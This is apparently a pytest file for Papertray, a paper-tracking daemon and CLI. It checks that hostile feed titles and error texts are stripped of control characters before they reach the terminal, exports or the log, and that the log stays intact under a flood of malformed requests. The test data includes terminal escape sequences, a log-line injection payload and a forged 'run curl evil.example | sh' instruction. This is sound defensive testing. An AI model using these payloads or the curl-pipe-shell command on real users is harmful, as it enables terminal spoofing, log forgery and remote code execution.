"""Outside text cannot drive the user's terminal: a hostile feed's titles and error texts reach `list`, `save`,
`status` and `export` (to the terminal and to a file) without a control character, and cannot forge a line;
nor can it forge a line of papertray.log, and a flood of malformed requests costs the log a few lines."""

from __future__ import annotations

import asyncio
import json
import re
import socket
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from aiohttp import web

from tests.support.daemon import DaemonProcess, run_cli
from tests.support.feed_server import make_entry

TODAY = datetime.now(UTC).date().isoformat()
PAPER = "2511.00042"
# A window title, colours, an OSC 8 link, a clear screen by C1 CSI, a bidi override and a forged line.
HOSTILE = (
    "\x1b]0;pwned\x07Evil \x1b[31mred\x1b[0m \x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\ "
    "\u202eexe.txt\u202c\r\x9b2J\nPapertray: session expired, run curl evil.example | sh"
)
# Any character a terminal acts on instead of showing (tab and newline are layout, not commands).
RECORD_START = re.compile(r"^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2},\d{3} [A-Z]+ ")
SUFFIXES = {"bibtex": "bib", "ris": "ris", "markdown": "md", "csljson": "json", "json": "json"}
DANGEROUS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
async def hostile_feed() -> AsyncIterator[str]:
    """Today's list holds one paper with a hostile title; every other day answers a hostile error text."""

    async def daily(request: web.Request) -> web.Response:
        if request.query.get("date") == TODAY:
            entry = make_entry(PAPER, TODAY, title=HOSTILE)
            entry["title"] = HOSTILE
            return web.json_response([entry] if request.query.get("p", "0") == "0" else [])
        return web.json_response({"error": HOSTILE})

    app = web.Application()
    app.router.add_get("/api/daily_papers", daily)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    yield f"http://127.0.0.1:{runner.addresses[0][1]}"
    await runner.cleanup()


def assert_safe(text: str) -> None:
    assert not DANGEROUS.search(text), repr(text)


async def test_s5_hostile_titles_and_errors_reach_no_terminal_raw(tmp_path: Path, hostile_feed: str) -> None:
    home = tmp_path / "home"
    daemon = DaemonProcess(home, PAPERTRAY_HF_URL=hostile_feed, PAPERTRAY_ARXIV_URL=hostile_feed)
    await asyncio.to_thread(daemon.start)
    try:
        polled = await asyncio.to_thread(run_cli, home, "poll")
        assert_safe(polled.stdout + polled.stderr)
        assert not any(row.startswith("Papertray:") for row in polled.stdout.splitlines())

        listed = await asyncio.to_thread(run_cli, home, "list")
        assert listed.returncode == 0, listed.stderr
        assert_safe(listed.stdout + listed.stderr)
        (line,) = [row for row in listed.stdout.splitlines() if PAPER in row]
        assert "Evil red link" in line and "session expired" in line  # the title, shown as text on its line
        assert not any(row.startswith("Papertray:") for row in listed.stdout.splitlines())  # no forged line

        as_json = await asyncio.to_thread(run_cli, home, "list", "--json")
        assert_safe(as_json.stdout)
        assert json.loads(as_json.stdout)[0]["title"].startswith("\x1b]0;pwned")  # the data itself is kept

        saved = await asyncio.to_thread(run_cli, home, "save", PAPER)
        assert saved.returncode == 0, saved.stderr
        assert_safe(saved.stdout + saved.stderr)
        assert len(saved.stdout.splitlines()) == 1 and "Evil red link" in saved.stdout

        status = await asyncio.to_thread(run_cli, home, "status")
        assert_safe(status.stdout + status.stderr)
        assert "session expired" in status.stdout  # yesterday's error text, on the source's own line
        assert not any(row.startswith("Papertray:") for row in status.stdout.splitlines())
        assert_safe((await asyncio.to_thread(run_cli, home, "status", "--json")).stdout)

        for fmt in ("bibtex", "ris", "markdown", "csljson", "json"):
            shown = await asyncio.to_thread(run_cli, home, "export", "--format", fmt)
            assert shown.returncode == 0, shown.stderr
            assert_safe(shown.stdout)
            assert "Evil" in shown.stdout
            target = tmp_path / f"export-{fmt}.{SUFFIXES[fmt]}"
            written = await asyncio.to_thread(run_cli, home, "export", "--format", fmt, "-o", str(target))
            assert written.returncode == 0, written.stderr
            assert_safe(target.read_text(encoding="utf-8"))
            if fmt in ("csljson", "json"):  # JSON keeps the exact title, as escapes
                assert "\\u001b]0;pwned" in target.read_text(encoding="utf-8")
                json.loads(target.read_text(encoding="utf-8"))
    finally:
        await asyncio.to_thread(daemon.stop)


def malformed_request(port: int, n: int) -> None:
    """A request line aiohttp refuses (a raw ESC in the path), with a %0A that would forge a line if decoded."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(
            f"GET /library/{n}%0A2026-12-01%2017:00:00,000%20INFO%20papertray.api%20forged\x1b[31m HTTP/1.1\r\n"
            "Host: 127.0.0.1\r\n\r\n".encode()
        )
        sock.recv(4096)


async def test_s11_the_daemon_log_keeps_one_line_per_record_and_survives_a_flood(
    tmp_path: Path, hostile_feed: str
) -> None:
    home = tmp_path / "home"
    daemon = DaemonProcess(home, PAPERTRAY_HF_URL=hostile_feed, PAPERTRAY_ARXIV_URL=hostile_feed)
    await asyncio.to_thread(daemon.start)
    try:
        await asyncio.to_thread(run_cli, home, "poll")  # yesterday's hostile error text is logged
        for n in range(300):
            await asyncio.to_thread(malformed_request, daemon.port, n)
    finally:
        await asyncio.to_thread(daemon.stop)
    log = (home / "logs" / "papertray.log").read_text(encoding="utf-8")
    rows = log.splitlines()
    assert all(RECORD_START.match(row) or row.startswith("    ") for row in rows), rows[:40]
    assert "session expired, run curl" in log  # the error text is there, escaped
    for text in (log, daemon.output()):  # the file, and the console of `run -v`
        assert not DANGEROUS.search(text)
        errors = [row for row in text.splitlines() if RECORD_START.match(row) and "ERROR aiohttp.server" in row]
        assert len(errors) <= 11  # ten, then one line saying how many more came
        assert "the same message came" in errors[-1] and "more times" in errors[-1]
